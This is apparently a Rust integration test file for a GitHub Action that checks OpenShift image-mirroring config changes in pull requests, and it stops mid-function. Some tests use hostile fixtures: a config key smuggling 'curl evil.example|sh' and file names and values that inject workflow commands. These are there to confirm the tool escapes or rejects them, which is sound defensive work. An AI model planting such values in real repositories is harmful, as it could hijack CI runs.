//! `qci-mirror action` as the runner runs it: a real git checkout of a merge commit whose lines
//! differ from the PR head, an event payload, the runner's output and summary files, and no git
//! on `PATH` (as in the action's image), so every commit is read through the mock GitHub API
//! serving that repository.

mod support;

use std::collections::HashMap;
use support::action::{
    Api, CONFIG, FileAnswer, Pr, pull_request_of_files, run_action as run, run_without_git,
};
use wiremock::matchers::{method, path as url_path, query_param};
use wiremock::{Mock, ResponseTemplate};

const BASE: &str = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ci/old-hub:v1:
    image: nginx:1.25
";

/// The base branch moved on after the PR branched: three comment lines shift every line of the
/// merge commit, so only head-commit line numbers point at the right text.
const BASE_MOVED_ON: &str = "\
# Mirrored into quay.io/openshift/ci.
# See the README for the rules.
#
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ci/old-hub:v1:
    image: nginx:1.25
";

/// A repository with `main` (base, then moved on), a PR branch with `head_text`, and the merge
/// commit checked out, as `actions/checkout` leaves it for `pull_request`.
fn pull_request(head_text: &str, fork: bool) -> Pr {
    let pr = pull_request_of_files(
        &[(CONFIG, BASE)],
        &[(CONFIG, Some(head_text))],
        &[(CONFIG, BASE_MOVED_ON)],
        fork,
    );
    let merged = std::fs::read_to_string(pr.workspace.join(CONFIG)).unwrap();
    assert!(
        merged.starts_with("# Mirrored"),
        "the merge keeps main's lines:\n{merged}"
    );
    pr
}

/// The runner's environment, network checks off: the sources here are on quay.io and Docker
/// Hub, and tests never leave loopback (`tests/action_network.rs` checks local registries).
fn env(pr: &Pr, api: &Api, extra: &[(&str, &str)]) -> HashMap<String, String> {
    let mut env = support::action::env(pr, api, &[("QCI_NETWORK_CHECKS", "false")]);
    for (k, v) in extra {
        env.insert((*k).to_owned(), (*v).to_owned());
    }
    env
}

/// The base config plus `n` new entries on Docker Hub: `n` errors in changed entries.
fn with_new_hub_entries(n: usize) -> String {
    let mut head = String::from(BASE);
    for i in 0..n {
        head.push_str(&format!(
            "  ci/hub-{i}:v1:\n    image: docker.io/org/hub-{i}:v1\n"
        ));
    }
    head
}

fn annotations(stdout: &str) -> Vec<&str> {
    stdout
        .lines()
        .filter(|l| {
            l.starts_with("::error ") || l.starts_with("::warning ") || l.starts_with("::notice ")
        })
        .collect()
}

const HEAD_WITH_PROBLEMS: &str = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v2
  ci/new-hub:v1:
    image: docker.io/library/busybox:1.36
  ci/old-hub:v1:
    image: nginx:1.25
  ci/new-ok:v1:
    image: quay.io/org/new:v1
";

#[test]
fn problems_in_changed_entries_fail_on_the_head_lines_and_old_ones_only_warn() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, false);
    let api = Api::start();
    api.read_only();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    // A same-repository PR tries the Checks API first; the 403 falls back quietly.
    let tried: Vec<String> = api
        .requests()
        .iter()
        .filter(|r| r.method != wiremock::http::Method::GET)
        .map(|r| format!("{} {}", r.method, r.url.path()))
        .collect();
    assert_eq!(tried, ["POST /repos/openshift/release/check-runs"]);
    assert!(!stdout.contains("could not publish"), "{stdout}");
    assert_eq!(stderr, "");
    assert!(
        stdout.starts_with("::add-mask::ghs_secret-token-value\n"),
        "{stdout}"
    );
    assert_eq!(
        stdout.matches("ghs_secret-token-value").count(),
        1,
        "the token appears only in its mask"
    );

    let found = annotations(&stdout);
    assert_eq!(found.len(), 2, "{stdout}");
    // Line 5 of the PR head, not line 8 of the merge commit.
    assert!(
        found[0].starts_with(&format!(
            "::error file={CONFIG},line=5,endLine=5,col=12,endColumn=42,title=qci-mirror%3A docker-hub-source::`docker.io/library/busybox:1.36` is on Docker Hub"
        )),
        "{}",
        found[0]
    );
    assert!(
        found[1].starts_with(&format!(
            "::warning file={CONFIG},line=7,endLine=7,col=12,endColumn=22,title=qci-mirror%3A docker-hub-source::`nginx:1.25` names no registry"
        )),
        "{}",
        found[1]
    );
    assert!(
        found[1].ends_with("not changed by the pull request)"),
        "{}",
        found[1]
    );

    let outputs = std::fs::read_to_string(&pr.output).unwrap();
    assert!(outputs.contains("errors=2\n"), "{outputs}");
    assert!(outputs.contains("warnings=0\n"), "{outputs}");
    assert!(
        outputs.contains(
            "changed-targets=[\"quay.io/openshift/ci:ci_a_v1\",\"quay.io/openshift/ci:ci_new-ok_v1\"]\n"
        ),
        "only what will be mirrored, not the Docker Hub entry: {outputs}"
    );
    let summary = std::fs::read_to_string(&pr.summary).unwrap();
    assert!(
        summary.contains(&format!(
            "https://github.com/openshift/release/blob/{}/{CONFIG}#L5",
            pr.head_sha
        )),
        "{summary}"
    );
    assert!(summary.contains("quay.io/org/new:v1"), "{summary}");
    assert!(!summary.contains("ghs_secret"), "{summary}");
}

#[test]
fn a_config_over_1_mb_is_read_whole_and_its_problems_found() {
    // Past 1 MB the contents API's JSON form carries no content; read as empty, the padded
    // config would pass with 0 errors.
    let mut head = String::from(BASE);
    head.push_str(&format!("# {}\n", "padding ".repeat(150_000)));
    head.push_str("  ci/late-hub:v1:\n    image: docker.io/library/busybox:1.36\n");
    assert!(head.len() > 1_100_000);
    let pr = pull_request(&head, true);
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let errors: Vec<&str> = annotations(&stdout)
        .into_iter()
        .filter(|a| a.starts_with("::error ") && a.contains("line=8,"))
        .collect();
    assert_eq!(errors.len(), 1, "{stdout}");
}

#[test]
fn mapping_files_named_with_url_characters_are_each_read_and_checked() {
    // `#`, `?`, `%` and a space mean something in a URL: unencoded, they would name another
    // file (or none), and the file would go unchecked.
    let names = [
        "mapping_x#2",
        "mapping_x?ref=main",
        "mapping_x%41",
        "mapping_x y",
    ];
    let head: Vec<(String, Option<&str>)> = names
        .iter()
        .map(|name| {
            (
                format!("core-services/image-mirroring/supplemental-ci-images/{name}"),
                Some("quay.io/org/tool:v1 registry.ci.openshift.org/ci/tool:v1\n"),
            )
        })
        .collect();
    let head: Vec<(&str, Option<&str>)> = head.iter().map(|(p, t)| (p.as_str(), *t)).collect();
    let pr = pull_request_of_files(&[(CONFIG, BASE)], &head, &[], true);
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    for name in names {
        let on_file = annotations(&stdout)
            .into_iter()
            .filter(|a| a.starts_with("::error ") && a.contains("mapping-line-added"))
            .filter(|a| {
                a.contains(&format!(
                    "file=core-services/image-mirroring/supplemental-ci-images/{},",
                    name.replace('%', "%25")
                ))
            })
            .count();
        assert_eq!(on_file, 1, "{name}:\n{stdout}");
    }
}

/// Mapping files whose names try to issue commands: the legacy form anywhere in a line, and a
/// line feed followed by a command of its own.
const HOSTILE_NAMES: [&str; 2] = [
    "mapping_x##[set-output name=changed-targets;]pwned",
    "mapping_y\n::error title=Injected::pwned",
];

fn hostile_mapping_files() -> Pr {
    let head: Vec<(String, Option<&str>)> = HOSTILE_NAMES
        .iter()
        .map(|name| {
            (
                format!("core-services/image-mirroring/supplemental-ci-images/{name}"),
                Some("quay.io/org/tool:v1 registry.ci.openshift.org/ci/tool:v1\n"),
            )
        })
        .collect();
    let head: Vec<(&str, Option<&str>)> = head.iter().map(|(p, t)| (p.as_str(), *t)).collect();
    pull_request_of_files(&[(CONFIG, BASE)], &head, &[], true)
}

#[test]
fn file_names_cannot_issue_workflow_commands_when_checked() {
    let pr = hostile_mapping_files();
    let api = Api::start();
    // `run` fails on any command qci-mirror did not mean to issue, on stdout or stderr.
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let on_hostile_files = annotations(&stdout)
        .into_iter()
        .filter(|a| a.contains("mapping-line-added") && a.contains("pwned"))
        .count();
    assert_eq!(on_hostile_files, 2, "{stdout}");
    let outputs = std::fs::read_to_string(&pr.output).unwrap();
    assert!(outputs.contains("changed-targets=[]\n"), "{outputs}");
    assert!(!outputs.contains("pwned"), "{outputs}");
}

#[test]
fn file_names_cannot_issue_workflow_commands_in_the_error_that_stops_the_step() {
    let pr = hostile_mapping_files();
    let api = Api::start();
    // The contents API fails on those files: the error that ends the run names them.
    api.mount(
        Mock::given(wiremock::matchers::path_regex("/contents/.*pwned"))
            .respond_with(ResponseTemplate::new(500).set_body_string("{}"))
            .with_priority(1),
    );
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 2, "{stdout}{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.starts_with("::error title=qci-mirror::"), "{stderr}");
    assert!(stderr.contains("pwned"), "{stderr}");
}

#[test]
fn changed_targets_and_the_summary_list_only_entries_that_validate() {
    let head = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ci/old-hub:v1:
    image: nginx:1.25
  ci/a';curl${IFS}evil.example|sh;#:v1:
    image: quay.io/org/x:v1
  ci/hub:v1:
    image: docker.io/library/busybox:1.36
  ci/good:v1:
    image: quay.io/org/good:v1
";
    let pr = pull_request(head, true);
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    let outputs = std::fs::read_to_string(&pr.output).unwrap();
    assert!(
        outputs.contains("changed-targets=[\"quay.io/openshift/ci:ci_good_v1\"]\n"),
        "{outputs}"
    );
    let summary = std::fs::read_to_string(&pr.summary).unwrap();
    let (_, mirrored) = summary
        .split_once("### Mirrored after merge")
        .expect(&summary);
    let keys: Vec<&str> = mirrored
        .lines()
        .filter_map(|l| l.strip_prefix("| ci/"))
        .collect();
    assert_eq!(keys.len(), 1, "{mirrored}");
    assert!(keys[0].starts_with("good:v1 |"), "{mirrored}");
}

#[test]
fn the_merge_queue_is_checked_like_a_pull_request_and_never_mirrors() {
    let mapping = "core-services/image-mirroring/supplemental-ci-images/mapping_q";
    let pr = pull_request_of_files(
        &[(CONFIG, BASE)],
        &[
            (CONFIG, Some(HEAD_WITH_PROBLEMS)),
            (
                mapping,
                Some("quay.io/org/tool:v1 registry.ci.openshift.org/ci/tool:v1\n"),
            ),
        ],
        &[],
        false,
    );
    // The queue's commit merges the pull request onto the base: its payload names both, and
    // the runner checks it out.
    let event = pr.workspace.parent().unwrap().join("merge_group.json");
    let payload = serde_json::json!({
        "action": "checks_requested",
        "merge_group": {
            "base_sha": pr.base_sha,
            "head_sha": pr.merge_sha,
            "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-abc",
            "base_ref": "refs/heads/main",
        },
        "repository": {"full_name": "openshift/release", "default_branch": "main"},
    });
    std::fs::write(&event, serde_json::to_vec(&payload).unwrap()).unwrap();
    let api = Api::start();
    api.read_only();
    let env = env(
        &pr,
        &api,
        &[
            ("GITHUB_EVENT_NAME", "merge_group"),
            ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
            ("GITHUB_REF", "refs/heads/gh-readonly-queue/main/pr-7-abc"),
            ("QCI_TARGET_USERNAME", "pusher"),
            ("QCI_TARGET_PASSWORD", "never-used"),
        ],
    );
    let (code, stdout, stderr) = run(&env);
    assert_eq!(code, 1, "{stdout}{stderr}");
    let errors: Vec<&str> = annotations(&stdout)
        .into_iter()
        .filter(|a| a.starts_with("::error "))
        .collect();
    // The Docker Hub entry the queue would merge, and the line added to a mapping file, which
    // only the compare API can list here (there is no pull request number, and no git).
    assert!(
        errors.iter().any(|a| a.contains("docker-hub-source")),
        "{stdout}"
    );
    assert!(
        errors
            .iter()
            .any(|a| a.contains("mapping-line-added") && a.contains("mapping_q")),
        "{stdout}"
    );
    let compared = format!(
        "/repos/openshift/release/compare/{}...{}",
        pr.base_sha, pr.merge_sha
    );
    let requests = api.requests();
    assert!(
        requests.iter().any(|r| r.url.path() == compared),
        "{requests:?}"
    );
    // Nothing but reads, and the check run the read-only token may not create.
    assert!(
        requests
            .iter()
            .all(|r| r.method == wiremock::http::Method::GET
                || r.url.path().ends_with("/check-runs")),
        "{requests:?}"
    );
    assert!(!stdout.contains("Mirroring"), "{stdout}");
}

#[test]
fn a_clean_pull_request_passes_and_lists_what_will_be_mirrored() {
    let head = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ci/old-hub:v1:
    image: nginx:1.25
  ci/tool:v2:
    namespace: ci
    name: tool
    tag: \"2.0\"
";
    let pr = pull_request(head, true);
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 0, "{stdout}{stderr}");
    // A fork's token is read-only: the API is only read (the commits), never written.
    assert!(
        api.requests()
            .iter()
            .all(|r| r.method == wiremock::http::Method::GET)
    );
    // The untouched Docker Hub entry is still reported, as a warning.
    assert_eq!(annotations(&stdout).len(), 1);
    let outputs = std::fs::read_to_string(&pr.output).unwrap();
    assert!(
        outputs.contains("changed-targets=[\"quay.io/openshift/ci:ci_tool_v2\"]\n"),
        "{outputs}"
    );
    let summary = std::fs::read_to_string(&pr.summary).unwrap();
    assert!(
        summary.contains("registry.ci.openshift.org/ci/tool:2.0"),
        "{summary}"
    );
}

#[test]
fn fail_on_all_and_never() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, false);
    let api = Api::start();
    api.read_only();
    let (code, stdout, _) = run(&env(&pr, &api, &[("QCI_FAIL_ON", "all")]));
    assert_eq!(code, 1);
    assert_eq!(
        annotations(&stdout)
            .iter()
            .filter(|a| a.starts_with("::error"))
            .count(),
        2
    );
    let (code, stdout, _) = run(&env(&pr, &api, &[("QCI_FAIL_ON", "never")]));
    assert_eq!(code, 0);
    assert!(
        annotations(&stdout)
            .iter()
            .all(|a| a.starts_with("::warning"))
    );
    let (code, _, stderr) = run(&env(&pr, &api, &[("QCI_FAIL_ON", "sometimes")]));
    assert_eq!(code, 2);
    assert!(stderr.contains("invalid fail_on `sometimes`"), "{stderr}");
}

#[test]
fn config_text_cannot_issue_workflow_commands() {
    let head = "\
supplementalCIImages:
  ci/a:v1:
    image: quay.io/org/a:v1
  ci/evil:v1:
    image: \"::stop-commands::pwned\"
  ci/legacy:v1:
    image: \"##[error]pwned\"
";
    let pr = pull_request(head, true);
    let api = Api::start();
    let (code, stdout, _) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1);
    let mut fenced = false;
    let mut token = String::new();
    for line in stdout.lines() {
        if let Some(t) = line.strip_prefix("::stop-commands::") {
            fenced = true;
            token = format!("::{t}::");
            continue;
        }
        if fenced {
            fenced = line != token;
            continue;
        }
        // Outside the fence, every line is one of our own, well-formed commands (the runner
        // then never falls back to its legacy `##[` parser) or our one-line result.
        let ours = [
            "::add-mask::",
            "::error file=",
            "::warning file=",
            "::notice title=",
        ];
        assert!(
            ours.iter().any(|p| line.starts_with(p)) || line.starts_with("qci-mirror: "),
            "{line}"
        );
    }
    assert!(!token.is_empty());
    // The value is still reported, escaped inside an annotation.
    assert!(
        stdout.contains("title=qci-mirror%3A invalid-image-reference::`::stop-commands::pwned`")
    );
}

#[test]
fn events_that_neither_check_nor_mirror_say_so() {
    let pr = pull_request(BASE, false);
    let api = Api::start();
    for event in ["issues", "release"] {
        let (code, stdout, _) = run(&env(&pr, &api, &[("GITHUB_EVENT_NAME", event)]));
        assert_eq!(code, 0);
        assert!(
            stdout.contains(&format!("nothing to do for the `{event}` event")),
            "{stdout}"
        );
    }
    let (code, _, stderr) = run(&env(&pr, &api, &[("GITHUB_EVENT_NAME", "")]));
    assert_eq!(code, 2);
    assert!(
        stderr.contains("use `qci-mirror validate` elsewhere"),
        "{stderr}"
    );
}

#[test]
fn with_git_the_checkout_serves_commits_without_any_api_call_and_the_same_report() {
    // The local convenience: git on PATH and the commits in the checkout.
    let pr = pull_request(HEAD_WITH_PROBLEMS, true);
    let through_api = Api::start();
    let (api_code, api_stdout, _) = run(&env(&pr, &through_api, &[]));
    assert!(!through_api.requests().is_empty());

    let api = Api::start();
    let path = std::env::var("PATH").unwrap();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[("PATH", &path)]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert_eq!(
        (code, without_fence_token(&stdout)),
        (api_code, without_fence_token(&api_stdout))
    );
    assert_eq!(api.requests().len(), 0, "{:?}", api.requests());
}

/// The log with its stop-commands token (random per run) replaced by a fixed one.
fn without_fence_token(log: &str) -> String {
    let token = log
        .lines()
        .find_map(|l| l.strip_prefix("::stop-commands::"))
        .expect("a stop-commands fence");
    log.replace(token, "TOKEN")
}

#[test]
fn a_commit_neither_git_nor_github_can_serve_is_a_clear_error() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, false);
    let api = Api::start();
    let mut event: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&pr.event_path).unwrap()).unwrap();
    event["pull_request"]["base"]["sha"] = "0123456789abcdef0123456789abcdef01234567".into();
    std::fs::write(&pr.event_path, serde_json::to_vec(&event).unwrap()).unwrap();
    // As in the image: no git, so only the API could have served it.
    let (code, _, stderr) = run(&env(&pr, &api, &[("GITHUB_REPOSITORY", "")]));
    assert_eq!(code, 2);
    assert!(
        stderr.contains("GITHUB_REPOSITORY is not set")
            && stderr.contains("there is no git on PATH either"),
        "{stderr}"
    );
    assert!(!stderr.contains("fetch-depth"), "{stderr}");
    // With git, a shallow checkout is what to fix.
    let path = std::env::var("PATH").unwrap();
    let (code, _, stderr) = run(&env(
        &pr,
        &api,
        &[("GITHUB_REPOSITORY", ""), ("PATH", &path)],
    ));
    assert_eq!(code, 2);
    assert!(stderr.contains("is not in the git checkout"), "{stderr}");
    assert!(stderr.contains("fetch-depth: 0"), "{stderr}");
}

/// A page of the pull request files API: `(path, status, previous path)`.
fn files_json(files: &[(&str, &str, Option<&str>)]) -> serde_json::Value {
    files
        .iter()
        .map(|(path, status, previous)| {
            let mut file = serde_json::json!({
                "sha": "0000", "filename": path, "status": status, "additions": 1,
                "deletions": 0, "changes": 1, "blob_url": null, "raw_url": null,
                "contents_url": "http://api.invalid/c",
            });
            if let Some(previous) = previous {
                file["previous_filename"] = (*previous).into();
            }
            file
        })
        .collect()
}

#[test]
fn a_commit_only_github_has_is_read_through_the_contents_api_of_an_enterprise_server() {
    let pr = pull_request(HEAD_WITH_PROBLEMS, true);
    let missing_base = "0123456789abcdef0123456789abcdef01234567";
    let mut event: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&pr.event_path).unwrap()).unwrap();
    event["pull_request"]["base"]["sha"] = missing_base.into();
    std::fs::write(&pr.event_path, serde_json::to_vec(&event).unwrap()).unwrap();
    let api = Api::start();
    // GitHub Enterprise: the API lives under /api/v3.
    api.mount(
        Mock::given(method("GET"))
            .and(url_path(format!(
                "/api/v3/repos/openshift/release/contents/{CONFIG}"
            )))
            .and(query_param("ref", missing_base))
            .respond_with(FileAnswer::new(CONFIG, BASE.as_bytes()))
            .expect(1),
    );
    // Without the base commit, git cannot say which files changed: GitHub does.
    api.mount(
        Mock::given(method("GET"))
            .and(url_path("/api/v3/repos/openshift/release/pulls/7/files"))
            .respond_with(
                ResponseTemplate::new(200).set_body_json(files_json(&[(CONFIG, "modified", None)])),
            )
            .expect(1),
    );
    let api_url = format!("{}/api/v3", api.server.uri());
    let (code, stdout, stderr) = run(&env(&pr, &api, &[("GITHUB_API_URL", &api_url)]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(!stdout.contains("not checked"), "{stdout}");
    let requests = api.requests();
    assert!(requests.iter().all(|r| {
        r.url.path().starts_with("/api/v3/")
            && r.headers.get("authorization").unwrap() == "Bearer ghs_secret-token-value"
    }));
    // The base came from the API: the untouched Docker Hub entry is still only a warning.
    assert_eq!(
        annotations(&stdout)
            .iter()
            .filter(|a| a.starts_with("::error"))
            .count(),
        1
    );
}

#[test]
fn a_writable_token_gets_a_check_run_with_every_annotation_in_batches_of_50() {
    let pr = pull_request(&with_new_hub_entries(119), false);
    let api = Api::start();
    let check_run = serde_json::json!({
        "id": 4242, "node_id": "CR_1", "head_sha": pr.head_sha, "url": "http://api.invalid/cr",
        "html_url": null, "details_url": null, "conclusion": "failure", "name": "qci-mirror",
        "started_at": null, "completed_at": null, "pull_requests": [],
        "output": {"title": null, "summary": null, "text": null, "annotations_count": 0, "annotations_url": "http://api.invalid/a"},
    });
    api.mount(
        Mock::given(method("POST"))
            .and(url_path("/repos/openshift/release/check-runs"))
            .respond_with(ResponseTemplate::new(201).set_body_json(&check_run))
            .expect(1),
    );
    api.mount(
        Mock::given(method("PATCH"))
            .and(url_path("/repos/openshift/release/check-runs/4242"))
            .respond_with(ResponseTemplate::new(200).set_body_json(&check_run))
            .expect(2),
    );
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        annotations(&stdout).is_empty(),
        "the check run replaces workflow commands:\n{stdout}"
    );
    assert!(
        stdout.contains("published check run `qci-mirror` with 120 annotations."),
        "{stdout}"
    );

    let bodies: Vec<serde_json::Value> = api
        .requests()
        .iter()
        .filter(|r| r.method != wiremock::http::Method::GET)
        .map(|r| serde_json::from_slice(&r.body).unwrap())
        .collect();
    let counts: Vec<usize> = bodies
        .iter()
        .map(|b| b["output"]["annotations"].as_array().map_or(0, Vec::len))
        .collect();
    assert_eq!(counts, [50, 50, 20]);
    assert_eq!(bodies[0]["head_sha"], pr.head_sha.as_str());
    assert_eq!(bodies[0]["conclusion"], "failure");
    let first = &bodies[0]["output"]["annotations"][0];
    assert_eq!(first["path"], CONFIG);
    assert_eq!(first["annotation_level"], "failure");
    assert_eq!(first["start_line"], 7);
    let levels: Vec<&str> = bodies
        .iter()
        .flat_map(|b| b["output"]["annotations"].as_array().unwrap().iter())
        .map(|a| a["annotation_level"].as_str().unwrap())
        .collect();
    // 119 new Docker Hub entries fail; the old one only warns.
    assert_eq!(levels.iter().filter(|l| **l == "failure").count(), 119);
    assert_eq!(levels.iter().filter(|l| **l == "warning").count(), 1);
}

/// Runs the real binary as the action's image would (empty PATH, empty workspace) on a pull
/// request from a deleted fork, its files served once each by the mock API, with `extra`.
fn run_in_image(extra: &[(&str, &str)]) -> (Option<i32>, String, String, Api) {
    let api = Api::start();
    let (base_sha, head_sha) = (
        "1111111111111111111111111111111111111111",
        "2222222222222222222222222222222222222222",
    );
    for (sha, text) in [(base_sha, BASE), (head_sha, HEAD_WITH_PROBLEMS)] {
        api.mount(
            Mock::given(method("GET"))
                .and(url_path(format!(
                    "/repos/openshift/release/contents/{CONFIG}"
                )))
                .and(query_param("ref", sha))
                .respond_with(FileAnswer::new(CONFIG, text.as_bytes()))
                .expect(1),
        );
    }
    api.mount(
        Mock::given(method("GET"))
            .and(url_path("/repos/openshift/release/pulls/7/files"))
            .and(query_param("per_page", "100"))
            .respond_with(
                ResponseTemplate::new(200).set_body_json(files_json(&[(CONFIG, "modified", None)])),
            )
            .expect(1),
    );
    let dir = tempfile::tempdir().unwrap();
    let event = serde_json::json!({"pull_request": {
        "number": 7,
        "base": {"sha": base_sha, "repo": {"full_name": "openshift/release"}},
        "head": {"sha": head_sha, "repo": null},
    }});
    let event_path = dir.path().join("event.json");
    std::fs::write(&event_path, serde_json::to_vec(&event).unwrap()).unwrap();
    let extra = [&[("QCI_NETWORK_CHECKS", "false")], extra].concat();
    let (code, stdout, stderr) = run_without_git(&event_path, dir.path(), &api, &extra);
    (code, stdout, stderr, api)
}

#[test]
fn in_the_image_without_git_both_versions_come_from_the_contents_api() {
    let (code, stdout, stderr, api) = run_in_image(&[]);
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    // A deleted fork (null head repository) counts as a fork: annotations, no check run.
    assert_eq!(annotations(&stdout).len(), 2, "{stdout}");
    assert_eq!(api.requests().len(), 3);
    assert!(!format!("{stdout}{stderr}").contains("::debug::"));
}

#[test]
fn a_rerun_with_debug_logging_shows_each_github_call_as_debug_lines_without_the_token() {
    let (code, stdout, stderr, _api) =
        run_in_image(&[("GITHUB_ACTIONS", "true"), ("RUNNER_DEBUG", "1")]);
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    let debug: Vec<&str> = stderr
        .lines()
        .filter(|l| l.starts_with("::debug::"))
        .collect();
    assert_eq!(debug.len(), 3, "{stderr}");
    assert!(
        debug
            .iter()
            .any(|l| l.contains("GitHub answered with the files of pull request #7 in ")),
        "{stderr}"
    );
    assert!(!stderr.contains("ghs_token"), "{stderr}");
    // Only the debug lines were added: the annotations are the same.
    assert_eq!(annotations(&stdout).len(), 2, "{stdout}");
}

const MAPPING: &str =
    "core-services/image-mirroring/supplemental-ci-images/mapping_supplemental_ci_images_openshift";

fn real(name: &str) -> &'static str {
    let text = std::fs::read_to_string(support::openshift_release_fixture(name)).unwrap();
    Box::leak(text.into_boxed_str())
}

/// `(level, line, code)` of every annotation on `file`.
fn annotated(stdout: &str, file: &str) -> Vec<(String, u32, String)> {
    annotations(stdout)
        .iter()
        .filter(|a| a.contains(&format!(" file={file},")))
        .map(|a| {
            let level = a[2..a.find(' ').unwrap()].to_owned();
            let line = a.split("line=").nth(1).unwrap().split(',').next().unwrap();
            let code = a.split("title=qci-mirror%3A ").nth(1).unwrap();
            (
                level,
                line.parse().unwrap(),
                code[..code.find("::").unwrap()].to_owned(),
            )
        })
        .collect()
}

#[test]
fn lines_added_to_a_mapping_file_fail_with_the_config_entry_to_add_and_old_problems_only_warn() {
    let (config, mapping) = (
        real("_config.yaml"),
        real("mapping_supplemental_ci_images_openshift"),
    );
    // The PR edits the source of line 2, deletes line 4 and appends a new image.
    let nodejs = "registry.access.redhat.com/rhscl/nodejs-10-rhel7:latest registry.ci.openshift.org/openshift/nodejs-10-rhel7:latest\n";
    assert!(mapping.contains(nodejs));
    let head = mapping
        .replace(
            "quay.io/ovirt/ocp-prfinder:ovirt-44",
            "quay.io/ovirt/ocp-prfinder:ovirt-45",
        )
        .replace(nodejs, "")
        + "quay.io/org/tool:v1 registry.ci.openshift.org/openshift/tool:v1\n";
    let moved_on = format!("# main moved on\n{config}");
    let pr = pull_request_of_files(
        &[(CONFIG, config), (MAPPING, mapping)],
        &[(MAPPING, Some(&head))],
        &[(CONFIG, &moved_on)],
        true,
    );
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(
        annotated(&stdout, CONFIG)
            .iter()
            .all(|(level, _, _)| level == "warning"),
        "{stdout}"
    );

    let on_mapping = annotated(&stdout, MAPPING);
    let at = |level: &str| -> Vec<(u32, &str)> {
        on_mapping
            .iter()
            .filter(|(l, _, _)| l == level)
            .map(|(_, line, code)| (*line, code.as_str()))
            .collect()
    };
    // The edited line now conflicts with `_config.yaml` too; the new line has the entry to add.
    assert_eq!(
        at("error"),
        [
            (2, "mapping-line-added"),
            (2, "mapping-target-defined"),
            (10, "mapping-line-added"),
        ],
        "{stdout}"
    );
    // The old problems (a conflict, a `ci/` target, an untagged source, a web-page path) and
    // the leftovers stay on their head lines, and do not fail the step.
    assert_eq!(
        at("warning"),
        [
            (3, "mapping-target-defined"),
            (7, "mapping-target-namespace"),
            (9, "invalid-image-reference"),
            (7, "mapping-target-defined"),
            (8, "untagged-source"),
        ],
        "{stdout}"
    );
    let new_line = annotations(&stdout)
        .into_iter()
        .find(|a| a.contains(&format!("file={MAPPING},line=10,")))
        .unwrap();
    assert!(
        new_line.ends_with(&format!(
            "col=1,endColumn=64,title=qci-mirror%3A mapping-line-added::mapping files take no new images: add `openshift/tool:v1` to `{CONFIG}` instead%0Ahelp: delete this line, and add under `supplementalCIImages:` in `{CONFIG}`:%0A  openshift/tool:v1:%0A    image: quay.io/org/tool:v1"
        )),
        "{new_line}"
    );
    assert!(
        stdout.contains("qci-mirror: 2 lines added to deprecated mapping files"),
        "{stdout}"
    );
    let summary = std::fs::read_to_string(&pr.summary).unwrap();
    assert!(
        summary.contains(&format!(
            "https://github.com/openshift/release/blob/{}/{MAPPING}#L10",
            pr.head_sha
        )),
        "{summary}"
    );
}

#[test]
fn deleting_mapping_lines_and_files_passes() {
    let (config, mapping) = (
        real("_config.yaml"),
        real("mapping_supplemental_ci_images_openshift"),
    );
    let chaos =
        "core-services/image-mirroring/supplemental-ci-images/mapping_supplemental_ci_images_chaos";
    let shorter: String = mapping.lines().take(3).map(|l| format!("{l}\n")).collect();
    let pr = pull_request_of_files(
        &[
            (CONFIG, config),
            (MAPPING, mapping),
            (chaos, real("mapping_supplemental_ci_images_chaos")),
        ],
        &[(MAPPING, Some(&shorter)), (chaos, None)],
        &[],
        true,
    );
    let api = Api::start();
    let (code, stdout, stderr) = run(&env(&pr, &api, &[]));
    assert_eq!(code, 0, "{stdout}{stderr}");
    let levels: Vec<String> = annotated(&stdout, MAPPING)
        .into_iter()
        .map(|(level, line, code)| format!("{level} {line} {code}"))
        .collect();
    // What is left of the changed file is still reported, as warnings.
    assert_eq!(
        levels,
        [
            "warning 3 mapping-target-defined",
            "warning 2 mapping-target-defined"
        ]
    );
    assert!(annotated(&stdout, chaos).is_empty(), "{stdout}");
    assert!(
        !stdout.contains("added to deprecated mapping files"),
        "{stdout}"
    );
}

#[test]
fn without_git_a_renamed_mapping_file_is_compared_with_its_old_path_through_the_api() {
    let api = Api::start();
    let (base_sha, head_sha) = (
        "1111111111111111111111111111111111111111",
        "2222222222222222222222222222222222222222",
    );
    let old_path = "core-services/image-mirroring/mapping_supplemental_ci_images_openshift";
    let mapping = real("mapping_supplemental_ci_images_openshift");
    let head_mapping =
        format!("{mapping}quay.io/org/tool:v1 registry.ci.openshift.org/openshift/tool:v1\n");
    for (path, sha, text) in [
        (CONFIG, base_sha, BASE),
        (CONFIG, head_sha, BASE),
